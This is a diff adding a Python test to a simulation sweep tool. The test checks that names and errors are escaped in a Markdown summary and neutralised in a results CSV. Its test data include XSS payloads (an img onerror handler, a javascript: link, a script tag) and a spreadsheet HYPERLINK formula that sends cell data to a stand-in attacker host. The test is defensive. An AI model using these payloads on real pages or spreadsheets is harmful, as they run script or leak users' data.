@@ -2,6 +2,7 @@
 
 import csv
 import json
+import re
 import math
 import os
 import tomllib
@@ -784,3 +785,29 @@ def test_a_second_sweep_into_a_folder_in_use_is_refused(built_fmus, tmp_path):
     assert second == [True] and (first.ran, first.failed) == (4, 0)
     again = run_sweep(sweep, out, built_fmus, run_serial, plots=False)
     assert (again.skipped, again.ran) == (4, 0)
+
+
+def test_names_and_errors_from_a_sweep_file_are_literal_in_the_summary_and_inert_in_results_csv(tmp_path):
+    """A sweep file from elsewhere: its name, description and a run's error go into summary.md as text
+    (no HTML, no link, no broken table), and into results.csv as no spreadsheet formula."""
+    import csv
+
+    from tapmuscle.cosim.sweep_run import ResultsLog
+
+    data = {"name": "x <img src=x onerror=alert(1)>", "description": "[click](javascript:alert(1)) | oops",
+            "base": dict(SHORT), "grid": {"seed": [0, 1]}}
+    sweep = parse_sweep(data, source="s")
+    rows = [{"run_id": str(i), "status": status, "scenario": '=HYPERLINK("http://evil.example/?"&A1)',
+             "method": "ampc_servo", "load_n": "44.0", "supply_mpa": "0.25", "frequency_hz": "0.1", "seed": str(i),
+             "mae_mm": "0.1" if status == "ok" else "", "expect": "", "error": error}
+            for i, (status, error) in enumerate([("ok", ""), ("failed", "ScenarioError: <script>x</script>")])]
+    text = summary_markdown(sweep, rows)
+    assert "<img" not in text and "<script>" not in text
+    assert not re.search(r"(?<!\\)\]\(javascript", text)  # the link's brackets escaped: no link
+    assert "# Sweep x &lt;img src=x onerror=alert(1)&gt;" in text and "\\[click\\](javascript:alert(1)) \\| oops" in text
+    log = ResultsLog(tmp_path / "results.csv", list(rows[0]))
+    log.rewrite(rows)
+    with open(tmp_path / "results.csv", newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1)" in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
